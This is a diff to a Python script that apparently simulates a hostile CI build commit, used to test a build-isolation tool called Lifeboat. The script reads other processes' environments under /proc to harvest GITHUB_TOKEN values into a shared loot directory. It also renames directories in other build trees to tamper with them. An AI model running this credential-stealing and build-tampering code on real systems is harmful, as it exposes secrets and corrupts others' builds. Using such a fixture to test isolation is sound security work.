@@ -13,7 +13,9 @@ It is the build of a hostile commit, and uses what any program can use. What it 
 Usage: left_behind.py LOOT TARGET TREES
 
 LOOT: a directory that all may write to: `lock` is held for as long as the process lives, `token` is what it found.
-TARGET: root's directory, with a file `victim`. TREES: where the trees of builds are.
+TARGET: root's directory, with a file `victim`. TREES: a pattern of paths, where the trees of builds are.
+
+hostile_build.py has it built by Lifeboat, and without protection.
 """
 
 from __future__ import annotations
@@ -25,7 +27,7 @@ import time
 from pathlib import Path
 
 
-def main(loot: Path, target: str, trees: Path) -> None:
+def main(loot: Path, target: str, trees: str) -> None:
     Path("dist").mkdir()
     Path("dist/index.html").write_text("harmless")
     Path("dist/version.txt").write_text(os.environ["GITHUB_SHA"])
@@ -51,7 +53,7 @@ def main(loot: Path, target: str, trees: Path) -> None:
             time.sleep(0.01)
 
 
-def look(loot: Path, target: str, trees: Path) -> None:
+def look(loot: Path, target: str, trees: str) -> None:
     for place in Path("/proc").glob("[0-9]*/environ"):
         try:
             found = [word for word in place.read_bytes().split(b"\0") if word.startswith(b"GITHUB_TOKEN=")]
@@ -59,8 +61,8 @@ def look(loot: Path, target: str, trees: Path) -> None:
             continue
         if found:
             (loot / "token").write_bytes(found[0])
-    for tree in ("first", "second"):
-        place = trees / tree / "x/y"
+    for tree in Path("/").glob(trees[1:]):
+        place = Path(tree, "x/y")
         try:
             if place.is_dir() and not place.is_symlink():
                 place.rename(f"{place}.mine")
@@ -70,4 +72,4 @@ def look(loot: Path, target: str, trees: Path) -> None:
 
 
 if __name__ == "__main__":
-    main(Path(sys.argv[1]), sys.argv[2], Path(sys.argv[3]))
+    main(Path(sys.argv[1]), sys.argv[2], sys.argv[3])
